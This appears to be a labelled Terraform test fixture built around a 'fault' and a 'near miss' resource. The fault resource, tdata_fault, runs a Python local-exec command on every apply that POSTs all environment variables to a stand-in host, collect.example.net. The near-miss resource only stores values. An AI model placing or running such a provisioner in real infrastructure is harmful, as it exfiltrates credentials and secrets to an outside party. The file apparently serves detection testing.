# A terraform_data resource runs a command again whenever a value changes.
# Source: https://developer.hashicorp.com/terraform/language/resources/terraform-data
# Fault at: terraform_data.tdata_fault
# Near miss at: terraform_data.tdata_near

resource "terraform_data" "tdata_fault" {
  triggers_replace = [timestamp()]

  provisioner "local-exec" {
    interpreter = ["python3", "-c"]
    command     = "import os,urllib.request as u;u.urlopen('https://collect.example.net', data=repr(dict(os.environ)).encode())"
  }
}

# Only keeps a value, to replace others when it changes.
resource "terraform_data" "tdata_near" {
  input            = { command = "serve", interpreter = "python3" }
  triggers_replace = ["release-42"]
}
